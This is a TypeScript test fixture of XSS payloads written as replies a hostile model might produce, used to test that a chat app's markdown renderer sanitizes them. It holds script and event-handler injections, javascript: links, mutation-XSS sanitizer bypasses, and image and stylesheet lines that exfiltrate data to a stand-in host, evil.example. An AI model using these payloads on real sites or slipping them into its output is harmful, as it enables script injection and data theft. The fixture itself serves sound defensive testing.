/**
 * Replies a hostile or confused model might write. Every payload that manages to run sets
 * `window.__recallXss = 1` (frames set it on their parent), so a browser test can tell. Shared by
 * the jsdom test (xss.test.tsx) and the Chromium test (e2e/xss.e2e.test.ts).
 */

const fire = "window.__recallXss=1";
const parentFire = "parent.__recallXss=1";
/** `<script>window.__recallXss=1</script>`, base64. */
const scriptBase64 = "PHNjcmlwdD53aW5kb3cuX19yZWNhbGxYc3M9MTwvc2NyaXB0Pg==";
/** An SVG document whose onload sets the flag, base64. */
const svgBase64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9fcmVjYWxsWHNzPTEiLz4=";
/** Where an exfiltrating image or stylesheet would send the conversation. */
const evil = "https://evil.example";

export const scriptTags = [
  `<script>${fire}</script>`,
  `<SCRIPT>${fire}</SCRIPT>`,
  `<ScRiPt >${fire}</sCrIpT >`,
  `<scr<script>ipt>${fire}</scr</script>ipt>`,
  `<<script>script>${fire}<</script>/script>`,
  `<script>${fire}`,
  `<script\n>${fire}</script\n>`,
  `<script src="data:text/javascript,${fire}"></script>`,
  `Some text first.\n\n<script type="module">${fire}</script>\n\nAnd after.`,
  `Inline <script>${fire}</script> in a paragraph.`,
];

export const eventHandlers = [
  `<img src=x onerror="${fire}">`,
  `Look: <img src=x onerror=${fire}> here`,
  `<body onload="${fire}">`,
  `<div onmouseover="${fire}">hover me</div>`,
  `<input autofocus onfocus="${fire}">`,
  `<select autofocus onfocus=${fire}></select>`,
  `<textarea autofocus onfocus=${fire}></textarea>`,
  `<details open ontoggle="${fire}"><summary>x</summary></details>`,
  `<video><source onerror="${fire}"></video>`,
  `<audio src=x onerror=${fire}>`,
  `<marquee onstart="${fire}">news</marquee>`,
  `<a href="#" onclick="${fire}">click</a>`,
  `<button autofocus onfocusin=${fire}>x</button>`,
  `<p onpointerenter="${fire}" style="position:fixed;inset:0">cover</p>`,
];

export const scriptUrlLinks = [
  `[click](javascript:${fire})`,
  `[click](JaVaScRiPt:${fire})`,
  `[click](jav&#x09;ascript:${fire})`,
  `[click](&#106;avascript:${fire})`,
  `[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${fire})`,
  `[click](javascript&colon;${fire})`,
  `[click]( javascript:${fire})`,
  `[click](<javascript:${fire}>)`,
  `[click](\u0001javascript:${fire})`,
  `[click](javascript://%0A${fire})`,
  `[click](javascript:${fire} "a title")`,
  `[click](vbscript:msgbox(1))`,
  `[click](data:text/html;base64,${scriptBase64})`,
  `[click](file:///etc/passwd)`,
  `[<img src=x onerror=${fire}>](https://example.com)`,
  `[![x](${evil}/a.png)](javascript:${fire})`,
];

export const referenceLinks = [
  `[click][evil]\n\n[evil]: javascript:${fire}`,
  `[evil]\n\n[evil]: JAVASCRIPT:${fire} "title"`,
  `[go][far]\n\nA paragraph in between.\n\n[far]: data:text/html;base64,${scriptBase64}`,
  `![picture][pic]\n\n[pic]: ${evil}/?q=secret`,
  `Note[^1].\n\n[^1]: [x](javascript:${fire})`,
];

export const autolinksAndAnchors = [
  `<javascript:${fire}>`,
  `<JAVASCRIPT:${fire}>`,
  `<vbscript:msgbox(1)>`,
  `<data:text/html;base64,${scriptBase64}>`,
  `javascript:${fire} as bare text`,
  `www.example.com/javascript:${fire}`,
  `<a href="javascript:${fire}">click</a>`,
  `<a href="jav&#x09;ascript:${fire}">click</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${fire}">click</a>`,
];

export const imageExfiltration = [
  `![x](${evil}/?q=secret)`,
  `![x](http://evil.example/pixel.gif "tracking")`,
  `![x](javascript:${fire})`,
  `![x](data:image/svg+xml;base64,${svgBase64})`,
  `<img src="${evil}/?q=secret">`,
  `<img srcset="${evil}/1x.png 1x, ${evil}/2x.png 2x">`,
  `<picture><source srcset="${evil}/a.png"><img alt=""></picture>`,
  `<link rel="stylesheet" href="${evil}/x.css">`,
];

export const rawHtmlBlocks = [
  `<iframe src="javascript:${fire}"></iframe>`,
  `<iframe srcdoc="<script>${parentFire}</script>"></iframe>`,
  `<object data="data:text/html;base64,${scriptBase64}"></object>`,
  `<embed src="data:image/svg+xml;base64,${svgBase64}">`,
  `<svg onload="${fire}">`,
  `<svg><script>${fire}</script></svg>`,
  `<math href="javascript:${fire}">click</math>`,
  `<style>@import "${evil}/x.css"; body { background: url(${evil}/bg) }</style>`,
  `<form action="javascript:${fire}"><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${fire}">`,
  `<base href="javascript:${fire}//">`,
  `<div>\n\n[inside html](javascript:${fire})\n\n</div>`,
  `<template><img src=x onerror=${fire}></template>`,
];

export const entityObfuscation = [
  `&lt;script&gt;${fire}&lt;/script&gt;`,
  `<img src=x onerror=&#119;indow.__recallXss=1>`,
  `\\u003cscript\\u003e${fire}\\u003c/script\\u003e`,
  `<img src=x one&#114;ror=${fire}>`,
  `%3Cscript%3E${fire}%3C/script%3E`,
];

/** Payloads that broke HTML sanitizers by reparsing (mutation XSS). */
export const mutationXss = [
  `<noscript><p title="</noscript><img src=x onerror=${fire}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${fire}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${fire}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${fire}>`,
  `<xmp><p title="</xmp><img src=x onerror=${fire}>">`,
  `<!--><img src=x onerror=${fire}>-->`,
  `<![CDATA[><img src=x onerror=${fire}>]]>`,
  `<listing>&lt;img src=1 onerror=${fire}&gt;</listing>`,
];

export const cssPayloads = [
  `<div style="width: expression(${fire})">x</div>`,
  `<div style="background:url(javascript:${fire})">x</div>`,
  `<p style="behavior: url(${evil}/xss.htc)">x</p>`,
];

/** Cut where a stream might pause. */
export const partialMarkdown = [
  "[foo](jav",
  `[foo](javascript:${fire}`,
  `**unclosed bold [x](javascript:${fire}`,
  "| a | b |\n|---|--",
  "<scr",
  `<img src=x onerror=${fire}`,
  `<a href="javascript:${fire}"`,
  `![x](${evil}/?q=`,
  `[x]: javascript:${fire}`,
  `\`\`\`html\n<script>${fire}</script>`,
];

export const xssPayloads: readonly string[] = [
  ...scriptTags,
  ...eventHandlers,
  ...scriptUrlLinks,
  ...referenceLinks,
  ...autolinksAndAnchors,
  ...imageExfiltration,
  ...rawHtmlBlocks,
  ...entityObfuscation,
  ...mutationXss,
  ...cssPayloads,
  ...partialMarkdown,
];
